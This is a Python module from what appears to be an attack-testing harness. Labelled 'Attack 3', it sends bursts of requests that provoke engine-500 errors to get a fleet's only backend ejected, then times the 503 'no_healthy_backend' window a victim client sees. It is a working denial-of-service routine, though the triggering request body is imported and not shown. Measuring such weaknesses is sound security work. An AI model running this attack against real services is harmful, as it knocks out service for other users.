"""Attack 3: rounds of engine-500 bodies that may eject the only backend, and the victim's 503
window each round leaves."""

from __future__ import annotations

import asyncio
import time
from collections import Counter
from typing import Any

from scripts.attacks.bodies import ROLE_LIST_BODY
from scripts.attacks.context import Ctx
from scripts.attacks.raw_http import CHAT, http_request

ROUND_CAP_S = 45.0
QUIET_S = 3.0  # a round with no 503 for this long (and a victim success) ejected nothing


async def ejection_round(ctx: Ctx, bodies: int) -> dict[str, Any]:
    """``bodies`` engine-500 bodies at once, then the victim's 503 no_healthy_backend window:
    from its first such 503 to the start of its next request that succeeds."""
    t0 = time.monotonic()
    answers = await asyncio.gather(
        *(
            http_request(ctx.fleet.url, "POST", CHAT, ROLE_LIST_BODY, timeout=30)
            for _ in range(bodies)
        )
    )
    result: dict[str, Any] = {"answers": dict(Counter(a.text() for a in answers))}
    while time.monotonic() < t0 + ROUND_CAP_S:
        await asyncio.sleep(0.2)
        probes = [p for p in list(ctx.victim.chats) if p.start >= t0 and p.end is not None]
        nhb = [p for p in probes if p.outcome == "503 no_healthy_backend"]
        if not nhb:
            if time.monotonic() - t0 >= QUIET_S and any(p.ok for p in probes):
                return {**result, "window_s": 0.0, "victim_503s": 0}
            continue
        ok_after = [p for p in probes if p.ok and p.start > nhb[0].start]
        if ok_after:
            window = ok_after[0].start - nhb[0].start
            return {**result, "window_s": round(window, 2), "victim_503s": len(nhb)}
    return {**result, "window_s": ROUND_CAP_S, "capped": True}


async def ejection(ctx: Ctx) -> dict[str, Any]:
    rounds = [await ejection_round(ctx, ctx.args.bodies_per_round) for _ in range(ctx.args.rounds)]
    figures: dict[str, Any] = {}
    for i, r in enumerate(rounds, 1):
        figures[f"round{i}_answers"] = ", ".join(f"{k} x{v}" for k, v in r["answers"].items())
        figures[f"round{i}_503_window_s"] = r["window_s"]
    return {"rounds": rounds, "figures": figures}
